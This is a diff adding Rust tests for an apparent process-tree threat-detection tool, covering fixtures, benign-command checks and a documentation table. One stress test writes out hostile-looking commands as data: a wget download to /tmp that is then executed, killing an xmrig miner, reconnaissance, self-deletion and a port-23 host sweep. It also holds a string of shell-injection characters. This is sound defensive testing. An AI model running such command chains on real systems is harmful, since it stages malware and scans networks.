@@ -1,7 +1,272 @@
+//! What holds for every behaviour: it fires and stays quiet as its fixtures say, and the registries are whole.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use ringleader_model::time::Timestamp;
+use serde::Deserialize;
+
 use super::*;
+
+#[derive(Deserialize)]
+struct Line {
+    parent: Option<usize>,
+    file_path: Option<String>,
+    cmd_line: Option<String>,
+    parent_file_path: Option<String>,
+    parent_cmd_line: Option<String>,
+    #[serde(default)]
+    files_written: Vec<String>,
+    #[serde(default)]
+    connects: Vec<String>,
+    /// Seconds.
+    start: Option<i64>,
+}
+
+fn root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+fn lines(path: &Path) -> Vec<Line> {
+    let text = std::fs::read_to_string(path).unwrap();
+    text.lines()
+        .map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{path:?}: {error}: {line}")))
+        .collect()
+}
+
+fn tree(lines: &[Line]) -> Tree<'_> {
+    let nodes = lines.iter().map(|line| Node {
+        parent: line.parent,
+        file_path: line.file_path.as_deref(),
+        cmd_line: line.cmd_line.as_deref(),
+        start: line.start.map(Timestamp::from_secs),
+        files_written: line.files_written.iter().map(String::as_str).collect(),
+        connects: line.connects.iter().map(String::as_str).collect(),
+        ..Node::default()
+    });
+    Tree { nodes: nodes.collect() }
+}
+
+fn view<'a>(line: &'a Line, parent: Option<&'a Line>) -> ProcessView<'a> {
+    let node = Node { file_path: line.file_path.as_deref(), cmd_line: line.cmd_line.as_deref(), ..Node::default() };
+    ProcessView {
+        file_path: node.file_path,
+        cmd_line: node.cmd_line,
+        parent_file_path: line.parent_file_path.as_deref().or_else(|| parent?.file_path.as_deref()),
+        parent_cmd_line: line.parent_cmd_line.as_deref().or_else(|| parent?.cmd_line.as_deref()),
+        user: None,
+        cwd: None,
+        windows: tree::is_windows(&node),
+    }
+}
+
+/// Names of everything that is seen in a fixture.
+fn seen(behaviours: &Behaviours, lines: &[Line]) -> Vec<String> {
+    let mut ids: Vec<_> = lines
+        .iter()
+        .flat_map(|line| behaviours.of_process(&view(line, line.parent.map(|parent| &lines[parent]))))
+        .chain(behaviours.of_tree(&tree(lines)).into_iter().map(|found| found.behaviour))
+        .collect();
+    ids.sort();
+    ids.dedup();
+    ids.into_iter().map(|id| behaviours.get(id).unwrap().id.clone()).collect()
+}
+
+fn fixtures() -> Vec<(String, String, PathBuf)> {
+    let mut out = Vec::new();
+    for folder in std::fs::read_dir(root().join("fixtures/label")).unwrap().map(|it| it.unwrap().path()) {
+        if !folder.is_dir() {
+            continue;
+        }
+        for file in std::fs::read_dir(&folder).unwrap().map(|it| it.unwrap().path()) {
+            if file.extension().is_some_and(|it| it == "in") {
+                let name = |path: &Path| path.file_stem().unwrap().to_string_lossy().into_owned();
+                out.push((name(&folder), name(&file), file));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
 #[test]
-fn compiles() {
-    let (b, problems) = Behaviours::with_rules(&[]);
+fn every_fixture_fires_or_stays_quiet_as_it_says() {
+    let behaviours = Behaviours::built_in();
+    let mut wrong = Vec::new();
+    for (id, case, path) in fixtures() {
+        if behaviours.by_name(&id).is_none() {
+            continue;
+        }
+        let seen = seen(&behaviours, &lines(&path));
+        if seen.contains(&id) == case.starts_with("quiet_") {
+            wrong.push(format!("{id}/{case}: saw {seen:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
+}
+
+#[test]
+fn every_behaviour_has_fixtures_and_says_what_it_is() {
+    let (behaviours, problems) = Behaviours::with_rules(&[]);
     assert_eq!(problems, []);
-    println!("{}", b.all().len());
+    let mut cases: BTreeMap<String, Vec<String>> = BTreeMap::new();
+    for (id, case, _) in fixtures() {
+        cases.entry(id).or_default().push(case);
+    }
+    let kinds = |kind| behaviours.all().iter().filter(|it| it.kind == kind).count();
+    assert!(behaviours.all().len() >= 30 && kinds(Kind::Tree) >= 8);
+    for behaviour in behaviours.all() {
+        let id = &behaviour.id;
+        let of = cases.get(id).unwrap_or_else(|| panic!("no fixtures/label/{id}"));
+        assert!(of.iter().any(|case| case.starts_with("fires_")), "{id} has no fires_ fixture");
+        assert!(of.iter().any(|case| case.starts_with("quiet_")), "{id} has no quiet_ fixture");
+        assert!(behaviour.title.len() > 10 && !behaviour.title.ends_with('.'), "{id}: title");
+        assert!(behaviour.technique.len() >= 5 && behaviour.technique.starts_with('T'), "{id}: technique");
+        assert!(id.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'), "{id}: name");
+    }
+    let mut names: Vec<_> = behaviours.all().iter().map(|it| &it.id).collect();
+    names.sort();
+    names.dedup();
+    assert_eq!(names.len(), behaviours.all().len(), "names are unique");
+}
+
+#[test]
+fn every_rule_file_is_built_in() {
+    let mut files: Vec<_> = std::fs::read_dir(root().join("knowledge/behaviours"))
+        .unwrap()
+        .map(|it| it.unwrap().path().file_stem().unwrap().to_string_lossy().into_owned())
+        .collect();
+    files.sort();
+    assert_eq!(files, rules::RULES.iter().map(|(name, _)| *name).collect::<Vec<_>>());
+}
+
+/// What administrators, builds and servers do all day must not raise an alarm.
+#[test]
+fn benign_commands_raise_no_alarm() {
+    let behaviours = Behaviours::built_in();
+    let lines = lines(&root().join("fixtures/label/benign.ndjson"));
+    let (mut alarms, mut remarks) = (Vec::new(), 0);
+    for line in &lines {
+        let single = behaviours.of_process(&view(line, None)).into_iter();
+        let several = behaviours.of_tree(&tree(std::slice::from_ref(line))).into_iter().map(|found| found.behaviour);
+        for behaviour in single.chain(several).filter_map(|id| behaviours.get(id)) {
+            remarks += 1;
+            if behaviour.severity.is_alarm() {
+                alarms.push(format!("{}: {:?}", behaviour.id, line.cmd_line));
+            }
+        }
+    }
+    println!(
+        "{} benign command lines, {remarks} remarks of low or medium weight, {} alarms",
+        lines.len(),
+        alarms.len()
+    );
+    assert!(lines.len() >= 300);
+    assert!(alarms.is_empty(), "\n{}", alarms.join("\n"));
+}
+
+/// The table of the documentation. `RINGLEADER_BLESS=1 cargo test` writes it anew.
+#[test]
+fn the_documented_table_is_up_to_date() {
+    let behaviours = Behaviours::built_in();
+    let mut all: Vec<_> = behaviours.all().iter().collect();
+    all.sort_by(|a, b| a.id.cmp(&b.id));
+    let mut text = String::from(
+        "# Behaviours\n\nWhat Ringleader sees in process graphs. *single*: one process shows it, by a Sigma rule in\n\
+         `knowledge/behaviours`. *tree*: it takes several, by a pattern in `crates/pipeline/src/label`. From `high` on a\n\
+         behaviour is alarm grade: it makes an episode suspicious by itself. Your own Sigma rules (`process_creation` for\n\
+         Linux, Windows or either; fields `Image`, `CommandLine`, `ParentImage`, `ParentCommandLine`, `User`,\n\
+         `CurrentDirectory`) add to these.\n\n\
+         This page is generated from the registries; a test keeps it up to date.\n\n\
+         | behaviour | seen | technique | severity | kind | maturity |\n|---|---|---|---|---|---|\n",
+    );
+    for it in &all {
+        let link = it.technique.replace('.', "/");
+        let kind = if it.kind == Kind::Tree { "tree" } else { "single" };
+        let maturity = format!("{:?}", it.maturity).to_lowercase();
+        text.push_str(&format!(
+            "| `{}` | {} | [{}](https://attack.mitre.org/techniques/{link}/) | {} | {kind} | {maturity} |\n",
+            it.id,
+            it.title,
+            it.technique,
+            it.severity.name()
+        ));
+    }
+    let path = root().join("docs/behaviours.md");
+    if std::env::var_os("RINGLEADER_BLESS").is_some() {
+        std::fs::write(&path, &text).unwrap();
+    }
+    assert_eq!(std::fs::read_to_string(&path).unwrap_or_default(), text, "run with RINGLEADER_BLESS=1");
+}
+
+const RULE: &str = "title: Runs a tool\nid: 6f1c1c2e-0000-4000-8000-000000000000\nlogsource:\n    category: process_creation\n    product: linux\ndetection:\n    s:\n        Image|endswith: '/tool'\n    condition: s\ntags:\n    - attack.execution\n    - attack.t1059\n    - attack.t1059.004\nlevel: high\n";
+
+#[test]
+fn a_user_adds_rules_and_hears_of_those_that_do_not_work() {
+    let text = |name: &str, text: &str| (name.to_owned(), text.to_owned());
+    let (behaviours, problems) = Behaviours::with_rules(&[
+        text("runs_a_tool", RULE),
+        text("no_yaml", "title: [\n"),
+        text("other_source", &RULE.replace("process_creation", "dns_query")),
+        text("other_product", &RULE.replace("linux", "macos")),
+        text("bad_regex", &RULE.replace("Image|endswith: '/tool'", "Image|re: '('")),
+        text("writes_cron", RULE),
+        text("huge", &"#".repeat(2 << 20)),
+        text("retired", &RULE.replace("level: high", "status: deprecated")),
+        text("two", &format!("{RULE}---\n{RULE}")),
+    ]);
+    let names: Vec<_> = problems.iter().map(|it| it.name.as_str()).collect();
+    assert_eq!(names, ["no_yaml", "other_source", "other_product", "bad_regex", "writes_cron", "huge"], "{problems:?}");
+    let view = ProcessView { file_path: Some("/opt/tool"), ..ProcessView::default() };
+    let seen: Vec<_> = behaviours.of_process(&view).into_iter().map(|id| behaviours.get(id).unwrap()).collect();
+    assert_eq!(seen.iter().map(|it| it.id.as_str()).collect::<Vec<_>>(), ["runs_a_tool", "two", "two_2"]);
+    assert_eq!((seen[0].technique.as_str(), seen[0].severity), ("T1059.004", Severity::High));
+    assert_eq!(behaviours.of_process(&ProcessView { windows: true, ..view }), []);
+    assert!(behaviours.by_name("retired").is_some());
+}
+
+/// Evidence names nodes that exist, in order, whatever stands in the tree.
+#[test]
+fn hostile_trees_are_bounded() {
+    let behaviours = Behaviours::built_in();
+    let start = std::time::Instant::now();
+    let mut nodes = vec![Node { cmd_line: Some("bash"), ..Node::default() }];
+    let kinds = ["wget http://192.0.2.1/x -O /tmp/x", "/tmp/x", "pkill xmrig", "uname -a", "nproc", "free", "id", "w", "rm /tmp/x"];
+    nodes.extend((0..200_000).map(|index| Node {
+        // A parent that comes later, or is none at all, is a damaged log and must not matter.
+        parent: [Some(0), Some(index + 5), Some(usize::MAX), None][index % 4],
+        cmd_line: Some(kinds[index % kinds.len()]),
+        ..Node::default()
+    }));
+    let connects: Vec<String> = (0..100_000).map(|n| format!("10.{}.{}.{}:23", n >> 16, n >> 8 & 255, n & 255)).collect();
+    nodes[7].connects = connects.iter().map(String::as_str).collect();
+    let long = "é;`$(\"'|".repeat(100_000);
+    nodes[9].cmd_line = Some(&long);
+    let tree = Tree { nodes };
+    let found = behaviours.of_tree(&tree);
+    for id in ["downloads_then_runs", "kills_rivals", "sweeps_hosts", "deletes_itself", "system_reconnaissance"] {
+        let of: Vec<_> = found.iter().filter(|it| behaviours.get(it.behaviour).unwrap().id == id).collect();
+        assert!((1..=MAX_FOUND).contains(&of.len()), "{id}: {}", of.len());
+        assert!(of.iter().all(|it| it.nodes.len() <= MAX_EVIDENCE && it.nodes.iter().all(|node| *node < tree.nodes.len())));
+    }
+    let view = ProcessView { cmd_line: Some(&long), ..ProcessView::default() };
+    assert!(behaviours.of_process(&view).len() < behaviours.all().len());
+    println!("200,000 nodes in {:?}", start.elapsed());
+}
+
+proptest::proptest! {
+    #[test]
+    fn any_text_is_read_without_panic(line in "[ -~é\\n;|&$()`'\"<>]{0,200}", image in proptest::option::of("\\PC{0,40}")) {
+        static BEHAVIOURS: std::sync::LazyLock<Behaviours> = std::sync::LazyLock::new(Behaviours::built_in);
+        for windows in [false, true] {
+            let view = ProcessView { file_path: image.as_deref(), cmd_line: Some(&line), windows, ..ProcessView::default() };
+            BEHAVIOURS.of_process(&view);
+            for command in command::commands(&line, windows) {
+                proptest::prop_assert!(!command.words.is_empty());
+                fetch::download(&command);
+            }
+        }
+        let node = Node { file_path: image.as_deref(), cmd_line: Some(&line), ..Node::default() };
+        BEHAVIOURS.of_tree(&Tree { nodes: vec![node.clone(), Node { parent: Some(0), ..node }] });
+    }
 }
